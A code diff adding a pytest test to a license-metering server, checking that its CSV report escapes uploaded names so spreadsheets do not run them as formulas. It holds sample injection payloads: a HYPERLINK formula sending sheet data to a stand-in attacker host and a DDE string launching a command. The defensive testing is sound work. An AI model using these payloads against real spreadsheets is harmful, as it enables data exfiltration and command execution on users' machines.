@@ -4,6 +4,8 @@ by one, duplicates never counted twice (across servers on one store, across a re
 
 from __future__ import annotations
 
+import csv
+import io
 import time
 from typing import Any
 
@@ -13,6 +15,7 @@ import pytest_asyncio
 from metering_protocol.client import ProtocolClient
 from metering_protocol.errors import BadRequest, Forbidden, UnknownProduct
 from metering_protocol.timefmt import rfc3339
+from metering_server.admin_cli import report_csv
 
 pytestmark = pytest.mark.asyncio
 
@@ -229,3 +232,25 @@ async def test_an_empty_period_lists_the_catalogue_with_zeros(server, connect):
     for p in reply["products"]:
         assert (p["sessions"], p["seconds"], p["peak_in_use"], p["denials"]) == (0, 0.0, 0, 0)
         assert p["timeline"] == [[at(0), 0]]
+
+
+async def test_the_csv_report_writes_uploaded_names_as_text_never_as_formulas(server, connect):
+    """Any agent names the product and user of its records; a spreadsheet opening the CSV
+    report would run a cell starting with = + - @ as a formula (a HYPERLINK sending the
+    sheet's data away, DDE)."""
+    agent, boss = await connect(server, "agent1"), await connect(server, "boss")
+    evil_product = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    evil_user = "@SUM(1+1)*cmd|' /C calc'!A0"
+    assert await upload(
+        agent,
+        record("f1", 10, 20, product=evil_product, version="1"),
+        record("f2", 10, 20, user=evil_user),
+        record("f3", 10, 20, user="-1+2"),
+    ) == {"accepted": 3, "duplicates": 0, "rejected": []}
+    data = await get_report(boss, 0, 100)
+    rows = list(csv.DictReader(io.StringIO(report_csv(data))))
+    cells = [cell for row in rows for cell in row.values()]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
+    assert "'" + evil_product in [r["product"] for r in rows]  # shown as it was sent
+    assert {"'" + evil_user, "'-1+2"} <= {r["user"] for r in rows}
+    assert {r["sessions"] for r in rows if r["user"] == "'-1+2"} == {"1"}  # numbers stay numbers
